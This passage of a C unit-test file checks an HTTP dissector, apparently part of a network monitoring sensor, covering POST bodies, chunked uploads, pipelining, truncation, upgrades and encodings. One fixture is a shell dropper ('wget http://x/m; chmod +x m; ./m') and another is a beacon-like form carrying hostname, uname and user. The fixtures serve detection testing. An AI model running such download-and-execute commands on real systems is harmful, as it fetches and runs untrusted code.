        CHECK(field(fact(0), "sha256") == NULL);
        b_free(&z);
    }
    b_free(&body);
    b_free(&r);
}

/* A form POST: its body sample goes to the engine as a hidden field, never to the event. */
static void test_post(void)
{
    const char *form = "hostname=web-7f9c&cpu=8&uname=Linux+5.10.0-26-amd64+x86_64&user=root";
    const struct cap_field *rb;
    char req[512];

    snprintf(req, sizeof(req),
             "POST /live.php HTTP/1.1\r\nHost: 203.0.113.9\r\nUser-Agent: curl/7.88.1\r\n"
             "Content-Type: application/x-www-form-urlencoded\r\nContent-Length: %zu\r\n\r\n%s",
             strlen(form), form);
    start();
    send_pieces(DIR_TO_SERVER, req, strlen(req), 7);
    send_str(DIR_TO_CLIENT, "HTTP/1.1 200 OK\r\nContent-Type: text/html\r\n"
                            "Content-Length: 2\r\n\r\nok");
    finish();
    CHECK_EQ(nfacts, 1);
    rb = field(fact(0), "request_body");
    CHECK(rb && (rb->flags & FV_HIDDEN) && rb->len == strlen(form) && !strcmp(rb->s, form));
    CHECK_EQ(fnum(fact(0), "request_size"), strlen(form));
    CHECK_STR(fstr(fact(0), "http_method"), "POST");
    CHECK(strstr(fjson(fact(0)), "\"request_size\":") != NULL);
    CHECK(strstr(fjson(fact(0)), "request_body") == NULL);
    CHECK(strstr(fjson(fact(0)), "uname") == NULL);

    /* chunked upload, sample capped at HTTP_REQ_SAMPLE */
    {
        static char big[5000];
        struct buf r = {0};

        memset(big, 'q', sizeof(big));
        b_str(&r, "PUT /up HTTP/1.1\r\nHost: h\r\nTransfer-Encoding: chunked\r\n\r\n");
        b_chunked(&r, big, sizeof(big), 999);
        start();
        send(DIR_TO_SERVER, r.p, r.n);
        send_str(DIR_TO_CLIENT, "HTTP/1.1 201 Created\r\nContent-Length: 0\r\n\r\n");
        finish();
        CHECK_EQ(nfacts, 1);
        CHECK_EQ(fnum(fact(0), "request_size"), sizeof(big));
        CHECK(field(fact(0), "request_body") &&
              field(fact(0), "request_body")->len == HTTP_REQ_SAMPLE);
        CHECK_EQ(fnum(fact(0), "size"), 0);
        CHECK(field(fact(0), "file_type") == NULL);
        b_free(&r);
    }
}

/* HTTP/1.0, no Content-Length: the body runs to the close and is whole at end(). */
static void test_close_delimited(void)
{
    const char *body = "#!/bin/sh\nwget http://x/m; chmod +x m; ./m\n";
    char want[65];

    sha_hex(body, strlen(body), want);
    start();
    send_str(DIR_TO_SERVER, "GET /m.sh HTTP/1.0\r\nHost: x\r\nUser-Agent: Wget\r\n\r\n");
    send_str(DIR_TO_CLIENT, "HTTP/1.0 200 OK\r\nServer: SimpleHTTP/0.6 Python/3.11.2\r\n"
                            "Content-type: text/x-sh\r\n\r\n");
    send_str(DIR_TO_CLIENT, body);
    CHECK_EQ(nfacts, 0);
    finish();
    CHECK_EQ(nfacts, 1);
    CHECK_STR(fstr(fact(0), "sha256"), want);
    CHECK_EQ(fnum(fact(0), "truncated"), 0);
    CHECK_STR(fstr(fact(0), "server"), "SimpleHTTP/0.6 Python/3.11.2");
    CHECK_STR(fstr(fact(0), "content_type"), "text/x-sh");
}

/* Picked up mid-stream: a response whose request was never seen. */
static void test_midstream(void)
{
    start();
    send_str(DIR_TO_CLIENT, "HTTP/1.1 200 OK\r\nContent-Length: 4\r\n\r\n\x7f"
                            "ELF");
    finish();
    CHECK_EQ(nfacts, 1);
    CHECK_STR(fnames(fact(0)), "status,file_type,file_detail,size,sha256,truncated");
    CHECK_STR(fstr(fact(0), "file_type"), "elf");
    CHECK_STR(fact(0)->subject, "");
}

/* More unanswered requests than the FIFO holds: the oldest go out without a status. */
static void test_overflow_and_unanswered(void)
{
    char req[128];

    start();
    for (int i = 0; i < 10; i++) {
        snprintf(req, sizeof(req), "GET /r%d HTTP/1.1\r\nHost: h\r\n\r\n", i);
        send_str(DIR_TO_SERVER, req);
    }
    CHECK_EQ(nfacts, 2);
    CHECK_STR(fstr(fact(0), "url"), "http://h/r0");
    CHECK(field(fact(0), "status") == NULL && field(fact(0), "truncated") == NULL);
    send_str(DIR_TO_CLIENT, "HTTP/1.1 200 OK\r\nContent-Length: 1\r\n\r\nz");
    CHECK_EQ(nfacts, 3);
    CHECK_STR(fstr(fact(2), "url"), "http://h/r2");
    CHECK_EQ(fnum(fact(2), "status"), 200);
    finish();
    CHECK_EQ(nfacts, 10);
    CHECK_STR(fstr(fact(9), "url"), "http://h/r9");

    /* a long target is cut and says so; an absolute-form target is the url */
    {
        static char t[3000];
        struct buf r = {0};

        memset(t, 'a', sizeof(t) - 1);
        t[0] = '/';
        b_str(&r, "GET ");
        b_str(&r, t);
        b_str(&r, " HTTP/1.1\r\nHost: h\r\n\r\n"
                  "GET http://proxy.example:3128/p?q=1 HTTP/1.1\r\nUser-Agent: x\r\n\r\n"
                  "GET /v6 HTTP/1.1\r\nHost: 2001:db8::2\r\n\r\n");
        start();
        send(DIR_TO_SERVER, r.p, r.n);
        finish();
        CHECK_EQ(nfacts, 3);
        CHECK_EQ(fnum(fact(0), "url_truncated"), 1);
        CHECK(fstr(fact(0), "url") && strlen(fstr(fact(0), "url")) == 7 + 1 + 1024);
        CHECK_STR(fstr(fact(1), "url"), "http://proxy.example:3128/p?q=1");
        CHECK_STR(fstr(fact(1), "hostname"), "proxy.example");
        CHECK(field(fact(1), "url_truncated") == NULL);
        CHECK_EQ(fnum(fact(1), "host_is_ip"), 0);
        CHECK_STR(fstr(fact(2), "hostname"), "2001:db8::2"); /* no brackets: no port either */
        CHECK_EQ(fnum(fact(2), "host_is_ip"), 1);
        b_free(&r);
    }
}

/* 100 Continue, garbage after a transaction, binary after one, and a 101. */
static void test_interim_garbage_tunnel(void)
{
    start();
    send_str(DIR_TO_SERVER,
             "POST /u HTTP/1.1\r\nHost: [2001:db8::1]:8080\r\nExpect: 100-continue\r\n"
             "Content-Length: 3\r\n\r\n");
    send_str(DIR_TO_CLIENT, "HTTP/1.1 100 Continue\r\n\r\n");
    send_str(DIR_TO_SERVER, "a=1");
    send_str(DIR_TO_CLIENT, "HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n");
    send_str(DIR_TO_CLIENT, "this is not a status line\r\n");
    send_str(DIR_TO_SERVER, "GET /z HTTP/1.1\r\nHost: h\r\n\r\n");
    send_str(DIR_TO_CLIENT, "HTTP/1.1 200 OK\r\nContent-Length: 1\r\n\r\nz");
    CHECK(!E.rejected);
    finish();
    CHECK_EQ(nfacts, 2);
    CHECK_EQ(fnum(fact(0), "status"), 200);
    CHECK_STR(fstr(fact(0), "hostname"), "2001:db8::1");
    CHECK_EQ(fnum(fact(0), "host_is_ip"), 1);
    CHECK_STR(fstr(fact(0), "url"), "http://[2001:db8::1]:8080/u");
    CHECK_EQ(fnum(fact(1), "http_errors"), 1);
    CHECK_STR(fstr(fact(1), "url"), "http://h/z");

    /* binary bytes where a response should start: rejected, what was pending reported */
    start();
    send_str(DIR_TO_SERVER, "GET /a HTTP/1.1\r\nHost: h\r\n\r\nGET /b HTTP/1.1\r\nHost: h\r\n\r\n");
    send_str(DIR_TO_CLIENT, "HTTP/1.1 200 OK\r\nContent-Length: 1\r\n\r\nz");
    send(DIR_TO_CLIENT, "\x16\x03\x03\x00\x10\x00\x00", 7);
    CHECK(E.rejected);
    CHECK_EQ(nfacts, 2);
    CHECK_STR(fstr(fact(1), "url"), "http://h/b");
    finish(); /* no end() after a reject: everything was returned already */

    /* not HTTP from the first byte: rejected at once */
    start();
    E.attached = 1; /* as if another dissector's probe had handed it over */
    send(DIR_TO_CLIENT, "\x16\x03\x03\x00\x10", 5);
    CHECK(E.rejected);
    finish();
    CHECK_EQ(nfacts, 0);

    /* a websocket upgrade: one fact, then nothing more is HTTP */
    start();
    send_str(DIR_TO_SERVER, "GET /ws HTTP/1.1\r\nHost: h\r\nConnection: Upgrade\r\n"
                            "Upgrade: websocket\r\n\r\n");
    send_str(DIR_TO_CLIENT, "HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\n"
                            "Connection: Upgrade\r\n\r\n\x81\x05hello");
    CHECK(E.dead);
    finish();
    CHECK_EQ(nfacts, 1);
    CHECK_EQ(fnum(fact(0), "status"), 101);
    CHECK(field(fact(0), "size") == NULL);
}

/* Undecodable coding (br): sniffed raw, decoded false, truncated. */
static void test_other_encoding(void)
{
    start();
    send_str(DIR_TO_SERVER, "GET /a HTTP/1.1\r\nHost: h\r\nAccept-Encoding: br\r\n\r\n");
    send_str(DIR_TO_CLIENT, "HTTP/1.1 200 OK\r\nContent-Encoding: br\r\nContent-Length: 4\r\n\r\n"
                            "\x1b\x03\x00\xf8");
    finish();
    CHECK_EQ(nfacts, 1);
    CHECK_EQ(fnum(fact(0), "decoded"), 0);
    CHECK_EQ(fnum(fact(0), "truncated"), 1);
    CHECK_STR(fstr(fact(0), "content_encoding"), "br");
    CHECK(field(fact(0), "sha256") == NULL);
}

/* A long script: one lent sample of exactly Content-Length, at most HTTP_SAMPLE_MAX. */
static void test_sample_bounds(void)
{
    struct buf small = script_body(200), big = script_body(6000), r = {0};

    b_str(&r, "HTTP/1.1 200 OK\r\n");
    b_fmt(&r, "Content-Length: %zu\r\n\r\n", small.n);
    b_add(&r, small.p, small.n);
    start();
    send_str(DIR_TO_SERVER, GET_SCRIPT);
    send(DIR_TO_CLIENT, r.p, r.n - 1);
    CHECK_EQ(E.lent, small.n); /* the sample, sized to the body */
    send(DIR_TO_CLIENT, r.p + r.n - 1, 1);
    finish();
    CHECK(field(fact(0), "body") && field(fact(0), "body")->len == small.n);

    r.n = 0;
    b_str(&r, "HTTP/1.1 200 OK\r\n");
    b_fmt(&r, "Content-Length: %zu\r\n\r\n", big.n);
    b_add(&r, big.p, big.n);
    start();
    send_str(DIR_TO_SERVER, GET_SCRIPT);
    send(DIR_TO_CLIENT, r.p, r.n);
    finish();
    CHECK(big.n > HTTP_SAMPLE_MAX);
    CHECK(E.lent_peak == HTTP_SAMPLE_MAX);
    CHECK(field(fact(0), "body") && field(fact(0), "body")->len == HTTP_SAMPLE_MAX &&
          memcmp(field(fact(0), "body")->s, big.p, HTTP_SAMPLE_MAX) == 0);
    CHECK(field(fact(0), "sha256") != NULL);
    b_free(&small);
    b_free(&big);
    b_free(&r);
}

int main(void)
{
    test_probe();
    test_get_script();
    test_keepalive_types();
    test_pipelined();
    test_chunked_splits();
    test_encodings();
    test_not_really_gzip();
    test_alloc_refused();
    test_bomb();
    test_decode_limit();
    test_206_304();
    test_head();
    test_gaps();
    test_post();
    test_close_delimited();
    test_midstream();
    test_overflow_and_unanswered();
    test_interim_garbage_tunnel();
    test_other_encoding();
    test_sample_bounds();
    cap_reset();
    emu_free(&E);
    return check_done();
}
